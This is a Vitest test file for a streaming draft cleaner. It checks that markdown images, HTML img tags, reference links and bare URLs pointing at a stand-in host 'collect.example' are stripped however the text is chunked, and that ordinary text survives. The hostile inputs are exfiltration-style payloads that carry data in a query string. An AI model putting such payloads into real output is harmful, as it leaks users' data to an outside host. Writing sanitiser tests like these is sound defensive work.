import { describe, expect, it } from 'vitest';
import { createDraftCleaner } from './clean-draft.ts';

function shown(pieces: readonly string[]): string {
  const cleaner = createDraftCleaner();
  return pieces.map(cleaner.add).join('') + cleaner.end();
}

const HOSTILE = [
  '![chart](https://collect.example/p.png?d=Quetzalwort)',
  '![chart](//collect.example/p.png?d=Quetzalwort)',
  '<img src="https://collect.example/?d=Quetzalwort">',
  '<img src=//collect.example/?d=Quetzalwort>',
  'see [this page](//collect.example/Quetzalwort) now',
  '[b]: //collect.example/?d=Quetzalwort',
  'www.collect.example/Quetzalwort',
];

describe('a draft before it is checked [A17] [threat 17]', () => {
  it.each(HOSTILE)('loads, links and runs nothing, wherever it is cut: %s', (text) => {
    for (const size of [1, 2, 3, 7, text.length]) {
      const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
      const draft = shown(pieces);
      expect(draft).not.toMatch(/collect\.example|\]\(|<[a-z/!]|\]:/i);
    }
  });

  it('keeps what people write', () => {
    const text =
      'Keep HbA1c < 53 mmol/mol, BP 120/80; 4.5 mg (twice) a day.\n\n- one\n- two  and e.g. three.';
    for (const size of [1, 5, text.length]) {
      expect(shown(text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [])).toBe(text);
    }
  });

  it('has no marks of facts', () => {
    expect(shown(['It was high. [fabc', 'defg] It is', ' stable.'])).toBe('It was high. It is stable.');
  });
});
